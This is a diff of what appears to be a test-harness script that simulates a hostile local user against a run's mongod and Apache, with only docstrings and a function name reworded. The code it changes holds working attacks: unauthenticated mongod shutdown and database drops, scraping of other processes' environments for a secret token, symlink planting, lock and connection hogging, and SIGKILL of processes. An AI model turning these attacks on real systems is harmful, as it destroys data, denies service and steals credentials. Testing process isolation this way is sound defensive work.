@@ -1,8 +1,8 @@
-"""What another user of the machine does, with the standard library alone.
+"""The attacks of another user of the machine, with only the standard library.
 
-``stranger.py DEED SEED MAIN ABOVE TMP OUTPUT CACHE VICTIM``: it says "here" as it begins, what it
-has achieved in lines that begin with ``HARM``, and stays until it is sent away. ABOVE is the
-process that all others of the run descend from: it keeps off everybody else's.
+``stranger.py DEED SEED MAIN ABOVE TMP OUTPUT CACHE VICTIM``: it prints "here" when it starts, and a
+line that begins with ``HARM`` for each success, and runs until it is terminated. ABOVE is the
+common ancestor of all processes of the run: it does not touch other processes.
 """
 
 from __future__ import annotations
@@ -23,17 +23,18 @@ DEED, SEED = sys.argv[1], int(sys.argv[2])
 MAIN, ABOVE = int(sys.argv[3]), int(sys.argv[4])
 TMP, OUTPUT, CACHE, VICTIM = (Path(name) for name in sys.argv[5:9])
 SECONDS = 20.0
-"""For so long it keeps trying."""
+"""How long it keeps trying."""
 
 
-def say(text: str) -> None:
-    """One line for the harness."""
+def print_line(text: str) -> None:
+    """Print one line for the harness."""
     sys.stdout.write(f"{text}\n")
     sys.stdout.flush()
 
 
 def below() -> dict[int, str]:
-    """The processes of the run, with their names: /proc shows the parents of all to everybody."""
+    """Return the processes of the run with their names: everyone can see the parents of all
+    processes in /proc."""
     parents, names = {}, {}
     for path in Path("/proc").iterdir():
         if path.name.isdigit():
@@ -48,11 +49,10 @@ def below() -> dict[int, str]:
 
 
 def ports(name: str) -> list[int]:
-    """The TCP ports of a command line of the run: ``--port N`` of mongod, or what Apache listens
-    on, which is in no command line, so all ports of the run's user that listen are tried."""
+    """Return the TCP ports in the command lines of the run's mongods (``--port N``)."""
     found = []
-    for pid, told in below().items():
-        if name == "mongod" and told == "mongod":
+    for pid, process in below().items():
+        if name == "mongod" and process == "mongod":
             with suppress(OSError, ValueError):
                 words = Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")
                 if "--port" in words:
@@ -61,15 +61,15 @@ def ports(name: str) -> list[int]:
 
 
 def apache_ports() -> list[int]:
-    """The ports of the run's Apache, which the harness names in a file: no other server of the
-    machine may be touched."""
+    """Return the ports of the run's Apache, which the harness writes to a file, since no other
+    server of the machine may be touched."""
     with suppress(OSError, ValueError):
         return [int(word) for word in (TMP.parent / "ports").read_text().split()]
     return []
 
 
 def message(port: int, body: bytes) -> bytes:
-    """Send an OP_MSG to a mongod and return what it answers."""
+    """Send an OP_MSG to a mongod and return its reply."""
     payload = struct.pack("<I", 0) + b"\0" + body
     head = struct.pack("<iiii", 16 + len(payload), 1, 0, 2013)
     with socket.create_connection(("127.0.0.1", port), 3) as one:
@@ -79,7 +79,7 @@ def message(port: int, body: bytes) -> bytes:
 
 
 def document(**fields: object) -> bytes:
-    """BSON of numbers, texts and documents."""
+    """Encode numbers, texts and documents as BSON."""
     body = b""
     for key, value in fields.items():
         name = key.encode() + b"\0"
@@ -101,42 +101,42 @@ def accepted(answer: bytes) -> bool:
 
 
 def lock(directory: Path) -> None:
-    """Take every lock that may be opened, and keep it."""
+    """Acquire every lock file that can be opened, and hold it."""
     held = []
     for path in (directory, *directory.rglob("*")):
         if path.name.endswith("lock") or path == directory:
             with suppress(OSError):
                 held.append(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
                 fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
-    say(f"holds {len(held)} locks")
+    print_line(f"holds {len(held)} locks")
     time.sleep(3600)
 
 
 def mongod(deed: str) -> None:
-    """What a client without a password can do to the run's mongod."""
+    """Try what a client without a password can do to the run's mongod."""
     for port in ports("mongod"):
         try:
             if deed == "shut mongod down":
                 ping = message(port, document(shutdown=1, force=True, **{"$db": "admin"}))
                 if not ping or accepted(ping):
-                    say("HARM shut down the run's mongod")
+                    print_line("HARM shut down the run's mongod")
             elif deed == "write to mongod":
                 row = document(x=1)
                 array = struct.pack("<i", len(row) + 8) + b"\x030\0" + row + b"\0"
                 if accepted(message(port, document(insert="c", documents=array, **{"$db": "x"}))):
-                    say("HARM wrote to the run's mongod")
+                    print_line("HARM wrote to the run's mongod")
             else:
                 for name in ("test", "admin", "local", "config"):
                     if accepted(message(port, document(dropDatabase=1, **{"$db": name}))):
-                        say(f"HARM dropped a database ({name}) of the run's mongod")
+                        print_line(f"HARM dropped a database ({name}) of the run's mongod")
         except OSError as error:
-            # Gone in the middle of the answer is what a shutdown looks like.
+            # A connection that closes in the middle of the reply looks like a shutdown.
             if deed == "shut mongod down" and error.errno == errno.ECONNRESET:
-                say("HARM shut down the run's mongod")
+                print_line("HARM shut down the run's mongod")
 
 
 def hold(found: list[int], count: int, words: bytes) -> None:
-    """Open connections, say something, and stay."""
+    """Open connections, send some bytes, and keep them open."""
     held = []
     for port in found:
         for _ in range(count):
@@ -144,12 +144,12 @@ def hold(found: list[int], count: int, words: bytes) -> None:
                 one = socket.create_connection(("127.0.0.1", port), 3)
                 one.sendall(words)
                 held.append(one)
-    say(f"holds {len(held)} connections")
+    print_line(f"holds {len(held)} connections")
     time.sleep(3600)
 
 
 def http(path: str) -> None:
-    """Ask Apache for something, and tell what it did about that."""
+    """Send requests to Apache, and print whether they did harm."""
     for port in apache_ports():
         for number in (1, 2):
             with suppress(OSError), socket.create_connection(("127.0.0.1", port), 3) as one:
@@ -160,16 +160,16 @@ def http(path: str) -> None:
                 try:
                     answer = one.recv(65536)
                 except TimeoutError:
-                    say(f"HARM made the server wait ({path})")
+                    print_line(f"HARM made the server wait ({path})")
                     continue
                 if time.monotonic() - began > 3:
-                    say(f"HARM made the server wait ({path})")
+                    print_line(f"HARM made the server wait ({path})")
                 if b'"memory"' in answer:
-                    say("HARM was told of the server's memory")
+                    print_line("HARM got data about the server's memory")
 
 
 def plant() -> None:
-    """Put links under names that somebody may use, and into what anybody may write."""
+    """Plant links under names that the run may use, and in directories that are writable."""
     rng = random.Random(SEED)
     until = time.monotonic() + SECONDS
     while time.monotonic() < until:
@@ -182,38 +182,38 @@ def plant() -> None:
             for inner in ("app", "evidence", "httpd.conf", "mod_wsgi", "data", "planted"):
                 with suppress(OSError):
                     (path / inner).symlink_to(VICTIM)
-                    say(f"planted {path.name[:10]}/{inner}")
+                    print_line(f"planted {path.name[:10]}/{inner}")
             with suppress(OSError):
                 list(path.iterdir())
-                say("HARM listed a scratch directory") if DEED.startswith("read") else None
+                print_line("HARM listed a scratch directory") if DEED.startswith("read") else None
         time.sleep(0.005)
 
 
 def read_environments() -> None:
-    """Look for a token of root's in the environment of what runs as us."""
+    """Look for root's token in the environments of processes of this user."""
     until = time.monotonic() + SECONDS
     while time.monotonic() < until:
         for pid in below():
             with suppress(OSError):
                 if b"SECRET_TOKEN" in Path(f"/proc/{pid}/environ").read_bytes():
-                    say(f"HARM read a token of root's from a process ({below().get(pid)})")
+                    print_line(f"HARM read a token of root's from a process ({below().get(pid)})")
                     return
         time.sleep(0.002)
 
 
 def signal_all() -> None:
-    """Kill what may be killed, of this run alone."""
+    """Kill every process of this run that may be killed."""
     for pid, name in below().items():
         with suppress(OSError):
             os.kill(pid, signal.SIGKILL)
-            say(f"killed {name}")
+            print_line(f"killed {name}")
             if name not in ("apache2", "httpd"):
-                say(f"HARM killed {name}")
+                print_line(f"HARM killed {name}")
 
 
 def main() -> None:
-    """Do it, and stay."""
-    say("here")
+    """Carry out the deed, and wait to be terminated."""
+    print_line("here")
     deeds = {
         "lock the cache": lambda: lock(CACHE),
         "lock the output": lambda: lock(OUTPUT),
@@ -229,7 +229,7 @@ def main() -> None:
         "plant in the run directory": plant,
         "read the environment": read_environments,
         "read the scratch directories": plant,
-        "signal everybody": signal_all,
+        "signal all_processes": signal_all,
     }
     deeds[DEED]()
     time.sleep(3600)
